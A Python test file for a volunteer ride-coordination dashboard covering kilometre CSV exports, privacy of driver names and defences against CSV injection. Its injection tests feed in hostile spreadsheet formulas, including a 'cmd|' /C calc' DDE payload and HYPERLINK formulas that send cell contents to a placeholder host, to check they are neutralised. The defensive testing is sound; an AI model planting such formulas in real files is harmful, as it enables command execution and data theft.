"""The coordinators' dashboard: waiting needs, gaps, volunteers' activity, monthly km (CSV), map."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest

from app.extensions import db
from app.services import dashboard
from app.services.csv_export import csv_text, safe_cell
from tests.web.conftest import ADMIN, COORDINATOR, login


def test_dashboard_shows_the_structures_figures(client, demo):
    login(client, COORDINATOR)
    html = client.get("/tableau-de-bord").get_data(as_text=True)
    assert "Roseline Fabre" in html  # her new need is waiting
    assert "Sarah Garcia" not in html  # the CCAS's people are not in this structure's figures
    gaps = dashboard.unserved_gaps([demo.valbourg.id])
    assert [(g.commune, g.purpose, g.count) for g in gaps] == [("Lacombe-Haute", "shopping", 1)]
    data = json.loads(re.search(r'<script type="application/json" id="dashboard-map-data">(.*?)</script>',
                                html, re.S).group(1))
    assert data["needs"] and data["drivers"]
    assert "Roseline" not in json.dumps(data)  # the map carries no names


def test_monthly_kilometres_csv(client, demo):
    login(client, COORDINATOR)
    response = client.get("/tableau-de-bord/kilometres.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    lines = response.get_data(as_text=True).lstrip("\ufeff").strip().splitlines()
    assert lines[0] == "mois;benevole;trajets;km;indemnites_eur;participations_eur"
    assert len(lines) == 2
    month, driver, rides, km, allowance, _contribution = lines[1].split(";")
    assert driver == "Jeanne Martin" and rides == "1" and km == "9,4" and allowance == "3,01"
    # The administrator sees both structures' rides.
    client.post("/deconnexion")
    login(client, ADMIN)
    admin_csv = client.get("/tableau-de-bord/kilometres.csv").get_data(as_text=True)
    assert "Louis Bonnet" in admin_csv and "Jeanne Martin" in admin_csv


def test_volunteer_activity_counts_done_rides(app, demo):
    activity = {a.driver.first_name: a for a in dashboard.volunteer_activity([demo.valbourg.id])}
    assert activity["Jeanne"].done == 1 and activity["Jeanne"].accepted == 2
    assert activity["Pierre"].proposed == 1 and activity["Pierre"].accepted == 0


# --- CSV injection (OWASP): cells a spreadsheet would run are neutralised ------------------

@pytest.mark.parametrize("value,written", [
    ("=1+2", "'=1+2"), ("+33600000101", "'+33600000101"), ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("Jeanne Martin", "Jeanne Martin"), ("a=1", "a=1"), ("", ""), (None, ""),
    ("-3", "-3"), ("-1,5", "-1,5"), ("-0.25", "-0.25"), (12, 12), (-4.5, -4.5),
])
def test_a_cell_that_a_spreadsheet_would_run_is_neutralised(value, written):
    assert safe_cell(value) == written


def test_csv_text_neutralises_every_cell_and_keeps_the_csv_well_formed():
    text = csv_text(["=nom", "km"], [['=HYPERLINK("http://x.example";"clic")', "-1,5"], ["@a;b", 3]])
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows == [["'=nom", "km"], ['\'=HYPERLINK("http://x.example";"clic")', "-1,5"], ["'@a;b", "3"]]


def test_the_kilometres_csv_neutralises_a_formula_in_a_drivers_name(client, demo):
    jeanne = demo.jeanne
    jeanne.first_name, jeanne.last_name = '=HYPERLINK("http://x.example/?"&A1;"Jeanne")', "@Martin"
    db.session.commit()
    login(client, COORDINATOR)
    text = client.get("/tableau-de-bord/kilometres.csv").get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[1][1] == '\'=HYPERLINK("http://x.example/?"&A1;"Jeanne") @Martin'
    assert rows[1][3] == "9,4"  # numbers stay numbers
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_the_kilometres_name_a_partners_driver_by_first_name_only(client, demo):
    # Louis (CCAS) drove a France Services person: the France Services figures count his ride
    # but name him as a partner's volunteer, as everywhere else.
    from app.models import Driver, Proposal, RideNeed

    louis = db.session.execute(db.select(Driver).filter_by(first_name="Louis")).scalar_one()
    proposal = db.session.execute(
        db.select(Proposal).join(RideNeed).where(RideNeed.beneficiary_id == demo.sebastien.id,
                                                 RideNeed.status == "done")).scalar_one()
    proposal.driver_id = louis.id
    db.session.commit()
    login(client, COORDINATOR)
    text = client.get("/tableau-de-bord/kilometres.csv").get_data(as_text=True)
    assert "Louis, bénévole d'une structure partenaire" in text and "Bonnet" not in text
    page = client.get("/tableau-de-bord").get_data(as_text=True)
    assert "Louis, bénévole d&#39;une structure partenaire" in page and "Bonnet" not in page
    client.post("/deconnexion")
    login(client, ADMIN)
    assert "Louis Bonnet" in client.get("/tableau-de-bord/kilometres.csv").get_data(as_text=True)


def test_every_csv_written_for_people_goes_through_the_one_helper():
    """No module writes CSV with the csv module but the helper; the GTFS export is the one
    exception: a feed for machines, whose values (``+33…`` phones, negative coordinates) must
    stay as they are."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2] / "app"
    writers = {str(path.relative_to(root)) for path in root.rglob("*.py")
               if "csv.writer(" in (text := path.read_text("utf-8")) or "csv.DictWriter(" in text}
    assert writers == {"services/csv_export.py", "services/opendata.py"}
